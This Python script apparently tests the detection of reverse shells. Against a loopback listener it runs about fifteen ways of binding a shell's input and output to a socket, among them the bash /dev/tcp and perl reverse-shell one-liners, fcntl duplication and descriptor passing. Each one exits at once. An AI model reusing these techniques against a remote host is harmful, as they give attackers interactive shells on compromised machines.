#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A connection becomes standard input and output, each way by a process of its own, whose program says which it was."""
import array
import fcntl
import os
import pty
import socket
import subprocess
import threading

MSG_FASTOPEN = 0x20000000


def take(connection, made=(0, 1, 2)):
    for fd in made:
        os.dup2(connection.fileno(), fd)


def shell(name):
    os.execv("/bin/sh", [name])


def fast_open(address):
    connection = socket.socket()
    connection.sendto(b"", MSG_FASTOPEN, address)
    take(connection)


def bound_before(address):
    connection = socket.socket()
    connection.bind(("127.0.0.1", 0))
    connection.connect(address)
    take(connection)


def by_thread(address):
    thread = threading.Thread(target=lambda: take(socket.create_connection(address)))
    thread.start()
    thread.join()


def by_fcntl(address):
    connection = socket.create_connection(address)
    for fd in (0, 1, 2):
        os.close(fd)
        fcntl.fcntl(connection.fileno(), fcntl.F_DUPFD, fd)


def passed(address):
    here, there = socket.socketpair()
    if not os.fork():
        connection = socket.create_connection(address)
        there.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connection.fileno()]))])
        os._exit(0)
    take(socket.socket(fileno=socket.recv_fds(here, 1, 1)[1][0]))
    os.wait()


def inherited(address):
    connection = socket.create_connection(address)
    os._exit(subprocess.run(["/bin/sh"], stdin=connection, stdout=connection, check=False).returncode)


def output_alone(address):
    take(socket.create_connection(address), (1, 2))


def mapped(address):
    connection = socket.socket(socket.AF_INET6)
    connection.connect(("::ffff:127.0.0.1", address[1]))
    take(connection)


def terminal(address):
    take(socket.create_connection(address))
    os._exit(pty.spawn(["/bin/sh", "-c", "exit 0"]))


def pipes(address):
    take(socket.create_connection(address))
    os._exit(subprocess.run(["/bin/sh"], input=b"exit 0\n", stdout=subprocess.PIPE, check=False).returncode)


def datagrams(address):
    connection = socket.socket(type=socket.SOCK_DGRAM)
    connection.connect(address)
    take(connection)
    os.execv("/bin/true", ["true"])


def of_shell(*names):
    """A shell makes it."""

    def run(address):
        text = names[-1].replace("PORT", str(address[1]))
        os.execvp(names[0], [*names[:-1], text])

    return run


WAYS = [
    fast_open,
    bound_before,
    by_thread,
    by_fcntl,
    passed,
    inherited,
    output_alone,
    mapped,
    terminal,
    pipes,
    datagrams,
    of_shell("bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/PORT; sh <&5 >&5 2>&5; exit 0"),
    of_shell("bash", "-c", "sh -i >& /dev/tcp/127.0.0.1/PORT 0>&1; exit 0"),
    of_shell("bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r line; do /bin/true <&5 >&5; $line; done <&5"),
    of_shell(
        "perl",
        "-e",
        'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(PORT, inet_aton("127.0.0.1"))) or die;'
        'open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")',
    ),
]


def try_each(address, listening):
    for way in WAYS:
        child = os.fork()
        if not child:
            os.close(listening.fileno())
            way(address)
            shell("sh")
        if way is not datagrams:
            there = listening.accept()[0]
            there.sendall(b"exit 0\n")
            os.waitpid(child, 0)
            there.close()
        else:
            os.waitpid(child, 0)


server = socket.create_server(("127.0.0.1", 0))
try_each(server.getsockname(), server)
WAYS[:] = [by_fcntl]
server = socket.create_server(("::1", 0), family=socket.AF_INET6)
try_each(server.getsockname()[:2], server)
